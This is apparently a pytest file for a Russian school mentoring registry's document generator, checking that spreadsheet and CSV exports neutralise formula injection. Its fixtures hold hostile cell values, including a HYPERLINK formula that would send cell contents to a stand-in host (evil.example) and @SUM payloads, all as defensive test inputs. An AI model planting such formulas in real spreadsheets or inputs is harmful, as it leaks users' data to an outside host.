"""Formula injection: text a school imports (or a stranger types as a login) that starts with
`= + - @`, a tab or a carriage return is written as text in every spreadsheet docgen produces —
the registry and the office's roll-up (.xlsx), the sample sheet, and the audit CSV."""

from __future__ import annotations

import csv
import html
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from security_helpers import demo_app, log_in, sample

from docgen.model import dossier_from_data
from docgen.participants import registry_xlsx, rollup_xlsx, sample_sheet
from docgen.safe_cells import FORMULA_STARTS, csv_cell

# Names take letters only (the model refuses «=», «+», «@» there: a first line of defence), so
# what a school can type that a spreadsheet would run goes in the other columns.
HOSTILE = {
    "Фамилия наставника": "Иванова",
    "Имя наставника": "Мария",
    "Отчество наставника": "Петровна",
    "Пол наставника": "ж",
    "Должность наставника": '=HYPERLINK("http://evil.example/?d="&A1,"учитель")',
    "Фамилия наставляемого": "Кириллов",
    "Имя наставляемого": "Артём",
    "Отчество наставляемого": "Сергеевич",
    "Пол наставляемого": "м",
    "Класс/должность наставляемого": "+7 класс",
    "Форма наставничества": "учитель – ученик",
    "Начало": "01.09.2022",  # inside the demo dossier's school year
    "Окончание": "31.05.2023",
    "Программа": "@SUM(A1:A9)",
}
INJECTED = [v for v in HOSTILE.values() if v.startswith(FORMULA_STARTS)]


def _confirm_fields(page: str) -> dict[str, str]:
    """The hidden fields of the confirm-import form, as the browser submits them."""
    form = re.search(r'<form[^>]*class="[^"]*confirm-import[^"]*"[^>]*>(.*?)</form>', page, re.S)
    assert form, "no confirm form"
    fields = {}
    for tag in re.findall(r"<input[^>]*>", form.group(1)):
        name = re.search(r'name="([^"]*)"', tag)
        value = re.search(r'value="([^"]*)"', tag)
        if name:
            fields[name.group(1)] = html.unescape(value.group(1)) if value else ""
    return fields


def _hostile_sheet() -> bytes:
    """Written the way a spreadsheet program saves typed text: as strings, not formulas."""
    book = Workbook()
    sheet = book.active
    sheet.title = "Участники"
    for column, (header, value) in enumerate(HOSTILE.items(), start=1):
        sheet.cell(row=1, column=column, value=header)
        cell = sheet.cell(row=2, column=column, value=value)
        cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def assert_no_formula(content: bytes) -> list[Any]:
    """Every cell of every sheet; none is a formula. Returns the values."""
    book = load_workbook(io.BytesIO(content))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                values.append(cell.value)
    # and in the raw XML: no <f> element at all
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name
    return values


@pytest.fixture(scope="module")
def installation(tmp_path_factory):
    """The demo school (under «УО Демо») after its curator imported the hostile sheet."""
    app = demo_app(tmp_path_factory.mktemp("formulas") / "data")
    curator = log_in(app.test_client(), "curator")
    dossier_id = curator.get("/api/v1/dossiers").get_json()["items"][0]["id"]
    page = curator.post(
        f"/registry/dossiers/{dossier_id}/import",
        data={"file": (io.BytesIO(_hostile_sheet()), "=HYPERLINK(1).xlsx"), "match_by": "name_birth"},
        content_type="multipart/form-data",
    )
    assert page.status_code == 200, page.get_data(as_text=True)[:2000]
    fields = _confirm_fields(page.get_data(as_text=True))
    done = curator.post(f"/registry/dossiers/{dossier_id}/import/confirm", data=fields)
    assert done.status_code == 302
    data = curator.get(f"/api/v1/dossiers/{dossier_id}").get_json()["data"]
    assert any(p["mentor"].get("position") == HOSTILE["Должность наставника"] for p in data["pairs"])
    return app, curator, dossier_id


def test_the_offices_rollup_holds_no_formula(installation):
    app, _curator, _dossier_id = installation
    office = log_in(app.test_client(), "office")
    response = office.get("/registry/rollup.xlsx")
    assert response.status_code == 200
    values = [str(v) for v in assert_no_formula(response.data) if v is not None]
    for text in INJECTED:
        assert any(text in v for v in values), text
    assert len([v for v in values if v.startswith(FORMULA_STARTS)]) >= 4  # kept as text


def test_the_schools_registry_holds_no_formula(installation):
    _app, curator, dossier_id = installation
    response = curator.get(f"/registry/dossiers/{dossier_id}/registry.xlsx")
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    values = [str(v) for v in assert_no_formula(response.data) if v is not None]
    assert any(v.startswith(HOSTILE["Должность наставника"]) for v in values)
    assert HOSTILE["Класс/должность наставляемого"] in values


def test_the_audit_csv_neutralises_every_cell(installation):
    app, _curator, _dossier_id = installation
    stranger = app.test_client()
    page = stranger.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    for login in ('=HYPERLINK("http://evil.example")', "@SUM(1)", "+1", "-1"):
        stranger.post("/login", data={"login": login, "password": "x" * 12, "csrf_token": token})
    admin = log_in(app.test_client(), "admin")
    response = admin.get("/audit/export.csv")
    assert response.status_code == 200
    text = response.get_data(as_text=True).lstrip("\ufeff")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert '\'=hyperlink("http://evil.example")' in cells  # logins are kept in lower case
    assert "'@sum(1)" in cells
    assert any(c.startswith("'=HYPERLINK(1).xlsx") or "=HYPERLINK(1).xlsx" in c for c in cells)


def _dossier_with(names: list[str]):
    data = sample("gymnasium-20")
    for pair, name in zip(data["pairs"], names, strict=False):
        pair["mentor"]["position"] = name  # names take letters only; positions any text
        pair["mentees"][0]["position"] = name
        pair["programme_title"] = name
    return dossier_from_data(data)


def test_tab_and_carriage_return_starts_are_text_too():
    names = ["\t=1", "\r=2", "=1+1", "+1", "-2", "@SUM(A1)"]
    dossier = _dossier_with(names)
    for content in (registry_xlsx(dossier), rollup_xlsx([("Школа", dossier)])):
        assert_no_formula(content)
    assert_no_formula(sample_sheet())


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_a_csv_cell_gets_an_apostrophe(text):
    assert csv_cell(text) == "'" + text
    assert csv_cell("Иванов") == "Иванов" and csv_cell(None) == "" and csv_cell(5) == "5"


def test_every_spreadsheet_writer_goes_through_safe_cells():
    """A module that makes a workbook or a CSV writer writes its cells with docgen.safe_cells."""
    root = Path(__file__).resolve().parents[2] / "docgen"
    writers = []
    for path in root.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if path.name == "safe_cells.py" or not re.search(r"Workbook\(\)|csv\.(writer|DictWriter)\(", text):
            continue
        writers.append(path.name)
        assert "safe_cells" in text, f"{path} writes a spreadsheet without docgen.safe_cells"
        bypass = re.search(r"\.cell\([^)]*value=|\b(sheet|ws|total|lists)\.append\(", text)
        assert not bypass, f"{path}: {bypass.group(0)} bypasses safe_cells.put()"
    assert {"registry.py", "sample.py", "audit.py"} <= set(writers)
